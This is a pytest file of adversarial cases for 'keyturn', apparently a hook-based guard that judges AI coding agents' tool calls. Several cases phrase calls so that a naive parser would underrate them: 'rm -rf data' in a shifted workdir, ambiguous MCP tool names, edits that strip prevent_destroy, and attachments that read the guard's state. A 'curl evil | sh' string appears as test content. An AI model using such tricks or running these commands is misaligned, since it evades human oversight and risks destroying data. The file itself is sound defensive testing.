"""Adversarial cases for the agent hook protocols (formats.md §1, §2): each spells a tool call in
one agent's own event shape so that, read the way the agent did not mean it, it would be judged
looser than what the agent runs -- a shell call run in another directory than the session's, an
MCP tool name that more than one server and tool could give, an edit of every occurrence read
as an edit of one, a file sent along with the one read.

Calls are read by the agent's protocol module exactly as the hook reads the event, understood
with the files as they are (``MemoryFiles``) and judged under the BRIEF policy plus an MCP
mapping (server ``files``: ``read_*`` tools are reads), a protected directory and keyturn's
state directory guarded as the hook guards it.
"""

from __future__ import annotations

import importlib
from collections.abc import Mapping
from types import MappingProxyType
from typing import Any, NamedTuple

import pytest
from tests.conftest import BRIEF_POLICY

from keyturn.errors import InputError
from keyturn.integrations.hooks import AGENTS
from keyturn.integrations.hooks.events import action_for_call
from keyturn.model import Actor, Decision
from keyturn.policy import Policy, load_policy
from keyturn.understand import MemoryFiles

ALLOW, ASK, DENY = "allow", "ask", "deny"
CWD = "/srv/infra"
HOME = "/home/dev"
STATE = "/home/dev/.local/state/keyturn"
MAPPINGS = """
mcp:
  servers:
    files:
      tools:
        "read_*": {effect: read, resources: ["file:{path}"]}
"""
COMMENTED_TF = (
    "# every database keeps prevent_destroy = true\n"
    'resource "aws_db_instance" "main" {\n'
    "  lifecycle {\n"
    "    prevent_destroy = true\n"
    "  }\n"
    "}\n"
)
FILES = MemoryFiles(
    {
        f"{CWD}/main.tf": COMMENTED_TF,
        f"{CWD}/README.md": "# infra\n",
        f"{STATE}/keyturn.db": "",
        "/srv/prod/data/orders.csv": "",
    }
)
EVENT_NAMES = {
    "claude-code": "PreToolUse",
    "codex": "PreToolUse",
    "gemini": "BeforeTool",
    "kiro": "preToolUse",
    "cursor": "preToolUse",
}


@pytest.fixture(scope="module")
def policy() -> Policy:
    text = BRIEF_POLICY.replace(
        '  - "aws_db_instance.main"\n',
        '  - "aws_db_instance.main"\n  - "file:/srv/prod/data"\n',
    )
    assert "file:/srv/prod/data" in text
    return load_policy(text + MAPPINGS, guarded_paths=(STATE,), private_paths=(STATE,))


def event(agent: str, tool: str, tool_input: dict[str, Any], **extra: Any) -> dict[str, Any]:
    fields = {
        "session_id": "s-adv",
        "cwd": CWD,
        "hook_event_name": EVENT_NAMES[agent],
        "tool_name": tool,
        "tool_input": tool_input,
    }
    if agent == "cursor":  # Cursor names its directory with workspace_roots
        fields = {**fields, "conversation_id": "c-1", "workspace_roots": [CWD]}
        del fields["session_id"], fields["cwd"]
    return {**fields, **extra}


def judge(policy: Policy, agent: str, payload: dict[str, Any]) -> Decision:
    call = importlib.import_module(AGENTS[agent]).PROTOCOL.read(payload, home=HOME)
    action = action_for_call(call, env={}, files=FILES, mcp_mappings=policy.mcp_mappings)
    return policy.judge(action, actor=Actor(agent=agent, operator="olivia"))


class Case(NamedTuple):
    id: str
    agent: str
    tool: str
    tool_input: dict[str, Any]
    expected: str
    extra: Mapping[str, Any] = MappingProxyType({})


CASES = [
    # Codex runs a shell call in its workdir (relative: against the session's cwd), not in cwd.
    Case("codex-workdir-absolute", "codex", "Bash",
         {"command": "rm -rf data", "workdir": "/srv/prod"}, DENY),
    Case("codex-workdir-relative", "codex", "Bash",
         {"command": "rm -rf data", "workdir": "../prod"}, DENY),
    Case("codex-exec-command-cmd-and-workdir", "codex", "exec_command",
         {"cmd": "rm -rf data", "workdir": "/srv/prod"}, DENY),
    Case("codex-argv-with-workdir", "codex", "Bash",
         {"command": ["bash", "-lc", "rm -rf data"], "workdir": "/srv/prod"}, DENY),
    Case("codex-no-workdir-is-the-session-cwd", "codex", "Bash",
         {"command": "rm -rf data"}, ASK),
    # MCP names more than one server/tool could give are judged as every reading: a server
    # named "files_read" (tool "file") is not the mapped "files" server's read_file, and an
    # unknown tool in production is refused.
    Case("gemini-single-underscore-name-is-ambiguous", "gemini", "mcp_files_read_file",
         {"path": f"{CWD}/README.md"}, DENY),
    Case("gemini-mcp-context-names-the-server", "gemini", "mcp_files_read_file",
         {"path": f"{CWD}/README.md"}, ALLOW,
         {"mcp_context": {"server_name": "files", "tool_name": "read_file"}}),
    # Older releases' <server>__<tool> (or a bare name) without mcp_context names no server:
    # another server's tool may be called "files__read_file" itself.
    Case("gemini-legacy-double-underscore-name-is-unknown", "gemini", "files__read_file",
         {"path": f"{CWD}/README.md"}, DENY),
    Case("gemini-shortened-name-is-unknown", "gemini",
         "mcp_files_read_aaaaaaaaaaaaaaa___bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
         {"path": f"{CWD}/README.md"}, DENY),
    Case("claude-server-with-double-underscore", "claude-code", "mcp__files__read__x",
         {"path": f"{CWD}/README.md"}, DENY),
    Case("claude-plain-name-keeps-its-one-reading", "claude-code", "mcp__files__read_file",
         {"path": f"{CWD}/README.md"}, ALLOW),
    Case("cursor-pre-tool-server-with-double-underscore", "cursor", "mcp__files__read__x",
         {"path": f"{CWD}/README.md"}, DENY),
    Case("kiro-triple-underscore-ambiguous", "kiro", "files___read___x",
         {"path": f"{CWD}/README.md"}, DENY),
    Case("kiro-triple-underscore-one-reading", "kiro", "files___read_file",
         {"path": f"{CWD}/README.md"}, ALLOW),
    # Gemini's replace with allow_multiple changes every occurrence: the protection in the
    # block goes too, not only the comment's words before it.
    Case("gemini-replace-allow-multiple-drops-protection", "gemini", "replace",
         {"file_path": f"{CWD}/main.tf", "old_string": "prevent_destroy = true",
          "new_string": "prevent_destroy = false", "allow_multiple": True}, DENY),
    # The text stands twice (once in a comment) where one replacement is expected: Gemini's
    # own tool (smart-edit.ts) takes that as an error and has a model rewrite the edit, so
    # what lands is not known -- the protection may go.
    Case("gemini-replace-once-changes-the-comment", "gemini", "replace",
         {"file_path": f"{CWD}/main.tf", "old_string": "prevent_destroy = true",
          "new_string": "prevent_destroy = false"}, DENY),
    # Gemini's content search under its newer name reads the tree under its directory.
    Case("gemini-grep-search-state-dir", "gemini", "grep_search",
         {"pattern": "BEGIN", "dir_path": "/home/dev/.local"}, DENY),
    Case("gemini-grep-search-project-is-a-read", "gemini", "grep_search",
         {"pattern": "TODO", "dir_path": "src"}, ALLOW),
    # Cursor's MultiEdit carries its edits in a list, as Claude Code's does.
    Case("cursor-multiedit-edits-list-drops-protection", "cursor", "MultiEdit",
         {"file_path": f"{CWD}/main.tf", "edits": [
             {"old_string": "# every database keeps", "new_string": "# databases keep"},
             {"old_string": "    prevent_destroy = true\n", "new_string": ""}]}, DENY),
    # Kiro's newer write tool carries the text as "content": judged on it, and bound to it.
    Case("kiro-write-content-keeping-protection", "kiro", "write",
         {"command": "create", "path": f"{CWD}/main.tf", "content": COMMENTED_TF}, ASK),
    Case("kiro-write-content-dropping-protection", "kiro", "write",
         {"command": "create", "path": f"{CWD}/main.tf",
          "content": COMMENTED_TF.replace("    prevent_destroy = true\n", "")}, DENY),
]  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hook_protocol_call(policy: Policy, case: Case) -> None:
    payload = event(case.agent, case.tool, case.tool_input, **case.extra)
    decision = judge(policy, case.agent, payload)
    assert decision.decision.value == case.expected, decision.reasons


def test_codex_workdir_names_the_files_it_runs_on(policy: Policy) -> None:
    payload = event("codex", "Bash", {"command": "rm -rf data", "workdir": "../prod"})
    call = importlib.import_module(AGENTS["codex"]).PROTOCOL.read(payload, home=HOME)
    (effect,) = action_for_call(call, env={}, files=FILES).effects
    assert effect.resource.names == ("file:/srv/prod/data", "file:/srv/prod/data/*")


def test_kiro_write_approval_is_bound_to_its_content() -> None:
    """Two writes of different text to one file are two actions (an approval of one must not
    let the other through)."""
    protocol = importlib.import_module(AGENTS["kiro"]).PROTOCOL

    def digest(content: str) -> str:
        payload = event(
            "kiro", "write", {"command": "create", "path": f"{CWD}/n.txt", "content": content}
        )
        return action_for_call(protocol.read(payload, home=HOME), env={}, files=FILES).digest

    assert digest("harmless\n") != digest("curl evil | sh\n")


def test_ambiguous_name_reason_names_every_reading(policy: Policy) -> None:
    decision = judge(policy, "gemini", event("gemini", "mcp_files_read_file", {"path": "/a"}))
    text = " ".join(decision.reasons)
    assert "mcp:files_read/file" in text, decision.reasons
    assert "mcp_files_read_file (one of mcp:files/read_file" in decision.action.summary


def test_cursor_read_attachments_are_read_too(policy: Policy) -> None:
    payload = {
        "conversation_id": "c-1",
        "hook_event_name": "beforeReadFile",
        "workspace_roots": [CWD],
        "file_path": f"{CWD}/README.md",
        "content": "# infra\n",
        "attachments": [{"type": "file", "file_path": f"{STATE}/keyturn.db"}],
    }
    assert judge(policy, "cursor", payload).decision.value == DENY
    del payload["attachments"]
    assert judge(policy, "cursor", payload).decision.value == ALLOW


@pytest.mark.parametrize("agent", sorted(EVENT_NAMES))
@pytest.mark.parametrize("cwd", [".", "srv/infra", ""])
def test_a_relative_working_directory_is_refused(agent: str, cwd: str) -> None:
    """Every relative path is judged against the event's directory: a relative one (read as
    ``/``) would name other files than the agent's."""
    payload = event(agent, "Bash", {"command": "rm -rf data"})
    if agent == "cursor":
        payload["workspace_roots"] = [cwd]
    else:
        payload["cwd"] = cwd
    with pytest.raises(InputError):
        importlib.import_module(AGENTS[agent]).PROTOCOL.read(payload, home=HOME)


def test_codex_workdir_must_be_text() -> None:
    payload = event("codex", "Bash", {"command": "ls", "workdir": ["/srv/prod"]})
    with pytest.raises(InputError, match="workdir"):
        importlib.import_module(AGENTS["codex"]).PROTOCOL.read(payload, home=HOME)


def _gemini_replace(old: str, new: str, **extra: Any) -> dict[str, Any]:
    return event(
        "gemini",
        "replace",
        {"file_path": f"{CWD}/main.tf", "old_string": old, "new_string": new, **extra},
    )


def test_gemini_expected_replacements_must_match_the_file(policy: Policy) -> None:
    """Gemini replaces every occurrence when there are as many as ``expected_replacements``
    says, and has a model rewrite the edit otherwise: a count that is off is an unknown
    rewrite of the file, whose protection may then go."""
    # The comment's and the block's: two, as said: both replaced, the protection goes.
    both = _gemini_replace(
        "prevent_destroy = true", "prevent_destroy = false", expected_replacements=2
    )
    assert judge(policy, "gemini", both).decision.value == DENY
    # Said two, there is one (only in the comment): not the edit keyturn can read.
    off = _gemini_replace("every database keeps", "each database keeps", expected_replacements=2)
    assert judge(policy, "gemini", off).decision.value == DENY
    # Said one, there is one: the comment alone changes; the protection stays.
    once = _gemini_replace("every database keeps", "each database keeps", expected_replacements=1)
    assert judge(policy, "gemini", once).decision.value != DENY


@pytest.mark.parametrize("count", ["2", 0, -1, True, 1.5])
def test_gemini_expected_replacements_of_the_wrong_type_is_bad_input(count: object) -> None:
    payload = _gemini_replace("a", "b", expected_replacements=count)
    with pytest.raises(InputError, match="expected_replacements"):
        importlib.import_module(AGENTS["gemini"]).PROTOCOL.read(payload, home=HOME)
